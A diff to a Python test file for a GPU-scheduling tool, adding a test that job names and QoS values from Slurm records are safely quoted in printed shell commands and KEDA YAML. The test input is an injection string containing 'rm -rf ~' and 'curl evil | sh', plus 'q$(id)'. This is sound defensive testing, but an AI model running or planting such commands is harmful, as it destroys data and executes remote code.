@@ -1,6 +1,11 @@
-"""The pure rules: confidence, ids, the culling timeout, the quantile."""
+"""The pure rules: confidence, ids, the culling timeout, the quantile, MIG fit, schedules,
+and the commands printed for a person."""
 
 from __future__ import annotations
+
+import json
+import subprocess
+from datetime import UTC, datetime, timedelta
 
 import pytest
 
@@ -71,3 +76,31 @@ def test_replicas_by_hour_and_the_keda_schedule() -> None:
     yaml = keda_cron("serving", "ranker", "Deployment", day)
     assert "minReplicaCount: 1" in yaml and yaml.count("type: cron") == 1
     assert 'start: "0 8 * * *", end: "0 16 * * *", desiredReplicas: "3"' in yaml
+
+
+def test_what_a_person_runs_quotes_every_value_from_a_record() -> None:
+    """A job name is whatever its user typed: in the printed commands it is one shell word,
+    in a comment it cannot start a new line, in the KEDA YAML it is a quoted scalar."""
+    from gpugap.recommend.base import Window
+    from gpugap.recommend.batch import SlurmFamily, time_limit
+    from gpugap.recommend.services import keda_cron
+
+    evil = "x'; rm -rf ~ #\nEOF\ncurl evil | sh"
+    fam = SlurmFamily(
+        cluster="hpc", user="alice", account="a", job_name=evil, partition="gpu", qos="q$(id)",
+        elapsed_s=(3600.0,) * 5, limit_s=(8 * 3600,) * 5, gpus=(1,) * 5, timeouts=0, jobs=5,
+    )  # fmt: skip
+    now = datetime(2026, 11, 9, tzinfo=UTC)
+    rec = time_limit(fam, Window(now - timedelta(days=7), now, 7.0), now)
+    assert rec is not None
+    lines = rec.apply.splitlines()
+    assert not any(line.startswith(("rm", "curl", "EOF")) for line in lines)
+    assert "--name=$'x\\'; rm -rf ~ #\\nEOF\\ncurl evil | sh'" in rec.apply
+    assert "'q$(id)'" in rec.apply and "--partition=gpu" in rec.apply
+    # bash reads the quoted word back as the job name itself
+    word = rec.apply.split("--name=", 1)[1].split(" --partition", 1)[0]
+    cmd = ["bash", "-c", f"printf %s {word}"]
+    echoed = subprocess.run(cmd, check=True, capture_output=True, text=True)
+    assert echoed.stdout == evil
+    yaml = keda_cron("ns", evil, "Deployment", (1, 2) * 12)
+    assert "\nEOF\n" not in yaml and json.dumps(evil) in yaml
